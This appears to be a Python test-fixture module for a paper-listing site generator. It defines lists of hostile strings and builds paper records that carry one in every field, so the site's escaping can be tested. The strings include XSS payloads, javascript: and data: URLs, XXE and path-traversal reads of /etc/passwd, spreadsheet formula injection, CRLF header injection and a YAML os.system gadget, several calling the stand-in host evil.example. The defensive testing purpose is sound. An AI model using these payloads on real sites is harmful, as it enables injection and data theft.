r"""Strings that mean harm, written for this project, and papers that carry one of them in every field.

`ran()` is what a payload calls; `evil.example` is where it calls home. A page that is safe does neither.
"""

from collections.abc import Iterator
from datetime import date
from typing import Any

import msgspec
from msgspec.structs import FieldInfo

from generator.bounds import TEXT as TEXT_LIMIT
from generator.model import Artefact, Author, Featured, Linked, Organisation, Paper, Version

MARKUP = (
    "<script>ran()</script>",
    "<script src=https://evil.example/x.js></script>",
    '"><img src=x onerror=ran()>',
    "'><svg onload=ran()>",
    '" onmouseover=ran() autofocus onfocus=ran() x="',
    "' style='background:url(https://evil.example/a)' x='",
    "`onload=ran()`",
    "</title><script>ran()</script>",
    "</script><script>ran()</script>",
    "</textarea></noscript></style></template><script>ran()</script>",
    "<!--><script>ran()</script>-->",
    "<![CDATA[<script>ran()</script>]]>",
    "]]><script>ran()</script>",
    "<scr<script>ipt>ran()</scr</script>ipt>",
    "<<script>ran();//<</script>",
    "<img/src=//evil.example/i.png><iframe src=//evil.example/f></iframe>",
    "<a href=javascript:ran()>x</a><base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'><link rel=stylesheet href=//evil.example/s.css>",
    "<form action=//evil.example/><button formaction=javascript:ran()>x</button></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=ran()>",
    '<svg><a xlink:href="javascript:ran()"><text>x</text></a><use href="data:image/svg+xml,x#y"/></svg>',
    "<details open ontoggle=ran()><object data=//evil.example/o><embed src=//evil.example/e>",
    "&lt;script&gt;ran()&lt;/script&gt;",
    "&#60;script&#62;ran()&#60;/script&#62;",
    "\\u003cscript\\u003eran()\\u003c/script\\u003e",
    "&xxe;<!ENTITY xxe SYSTEM 'file:///etc/passwd'><!DOCTYPE x [<!ENTITY a 'b'>]>",
    "<?xml version='1.0'?><?php ran() ?><%= ran() %>",
)
MARKDOWN = (
    "[x](javascript:ran())",
    "[x](JaVaScRiPt:ran()) [y](java\tscript:ran()) [z](&#106;avascript:ran())",
    "<javascript:ran()> [x]: javascript:ran() [x]",
    "![x](https://evil.example/i.png) ![y](data:image/svg+xml,<svg onload=ran()>)",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oKTwvc2NyaXB0Pg==) [y](vbscript:ran()) [z](file:///etc/passwd)",
    '[x](https://example.org/"onclick="ran())',
    "<div markdown=1 onclick=ran()>x</div>\n\n    <script>ran()</script>\n\n```html\n<script>ran()</script>\n```",
    "* " * 300 + "[" * 300 + "x" + "]" * 300,
    "> " * 400 + "deep",
    "`" * 500 + "*" * 500 + "_" * 500,
    "| a | b |\n|---|---|\n| <script>ran()</script> | [x](javascript:ran()) |",
    "[toc] {{ 7*7 }} {% raw %} {# x #} ${ran()} #{ran()} <%= ran() %> {{constructor.constructor('ran()')()}}",
)
TEX = (
    r"$\href{javascript:ran()}{x}$ $\url{javascript:ran()}$",
    r"$\text{</annotation></semantics></math><script>ran()</script>}$",
    r"$\style{background:url(//evil.example)}{x}$ $\class{x}{y}$ $\cssId{z}{w}$ $\unicode{x3c}script$",
    r"$\def\a{\a\a}\a$ $\newcommand{\b}{\b\b}\b$ $\let\c=\d \c$",
    "$" + r"\frac{1}{" * 120 + "x" + "}" * 120 + "$",
    "$" + "{" * 400 + "x" + "}" * 400 + "$",
    "$" + "x^{" * 150 + "y" + "}" * 150 + "$",
    r"$\input{/etc/passwd}$ $\write18{ran}$ $\includegraphics{//evil.example/i.png}$",
    "$<script>ran()</script>$ \\(<img src=x onerror=ran()>\\) \\[</math><script>ran()</script>\\]",
    "$" * 300 + "\\" * 300,
    r"}@string{x = {y}} @comment{ \end{document} % & # _ ^ ~ \\ { " + '"',
)
TEXT = (
    "a\x00b\x01c\x1bd\x7fe\x85f\x9bg",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred",
    "abc\u202egnp.exe\u2066\u2069\u202a\u202c",
    "\ud800 lone \udfff surrogates",
    "\ufeff\ufffe\uffff\U0001ffff\u2028\u2029\u0085",
    "e" + "\u0301" * 400,
    "\u200b\u200c\u200d\u2060\u00ad",
    "::error file=x::owned\n::set-output name=x::y\r\n::add-mask::z",
    "Subject: x\r\nBcc: evil@evil.example\r\n\r\nbody",
    "=cmd|' /C calc'!A0",
    "+1+1\t-1\t@SUM(1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "/etc/passwd\x00.md",
    "CON.md",
    "a" * 1900,
    "?q=1#fragment&amp;x=%00%0d%0a%2e%2e%2f",
    "--- !!python/object/apply:os.system ['x']\n&a [*a, *a] <<: *a",
    "None null undefined NaN true 0x1F 1e9",
    "ورقة <b>بحثية</b> \u200fعن",
    "%s %d %n {0} {x.__class__} $(ran) `ran` ; ran | ran && ran",
)
STRINGS = (*MARKUP, *MARKDOWN, *TEX, *TEXT)

URLS = (
    "javascript:ran()",
    "JAVASCRIPT:ran()",
    " javascript:ran()",
    "java\tscript:ran()",
    "data:text/html,<script>ran()</script>",
    "vbscript:ran()",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "http:evil.example",
    "https://",
    'https://a.example/"onmouseover="ran()',
    "https://a.example/'><script>ran()</script>",
    "https://user:secret@evil.example/",
    "https://a.example/\nSet-Cookie: x",
    "https://a.example/" + "x" * 5000,
    "https://[::1",
    "https://a.example/\u202e\u2066",
    "ftp://a.example/x",
    "blob:https://a.example/x",
)

_TAKEN_APART = {"id", "sources", "extra", "withdrawn", "title"}


def papers(strings: tuple[str, ...] = STRINGS) -> Iterator[Paper]:
    """Yield a paper for each of `strings`, which stands in all of its fields."""
    short = [url for url in URLS if len(url) <= TEXT_LIMIT]
    for number, text in enumerate(strings):
        yield paper(f"2602.{number:05}", text, short[number % len(short)], withdrawn=number % 9 == 8)


def paper(id: str, text: str, url: str, *, withdrawn: bool = False) -> Paper:  # noqa: A002
    """Return a paper that carries `text` wherever there may be text, and `url` wherever there may be an address."""
    given: dict[str, Any] = {
        item.name: _value(item, text, url) for item in msgspec.structs.fields(Paper) if item.name not in _TAKEN_APART
    }
    given |= {"withdrawn": text if withdrawn else "", "title": text.strip() or "x", "sources": {text: ("title",)}}
    return Paper(id=id, extra={text: text}, **given)


def _value(item: FieldInfo, text: str, url: str) -> object:
    """Return what a field of its type holds."""
    special: dict[str, object] = {
        "authors": (Author(name=text, affiliation=text, orcid=text), Author(name=f"{text} 2")),
        "organisation": Organisation(slug=text, name=text),
        "versions": (Version(number=1, date=date(2026, 1, 30)), Version(number=2, date=date(2026, 2, 1))),
        "featured": (Featured(day=date(2026, 2, 2), rank=1, upvotes=3, comments=1, by=text),),
        "published": date(2026, 1, 30),
        "updated": date(2026, 2, 1),
        "identifiers": (f"acl:{text}", text),
    }
    if item.name in special:
        return special[item.name]
    if item.name in ("code", "project", "url", "pdf"):
        return url
    if item.type is str:
        return text
    if item.type == tuple[str, ...]:
        return (text, f"{text} 2")
    if item.type == Linked | None:
        return Linked(total=2, first=(Artefact(name=text, url=url),))
    return 1
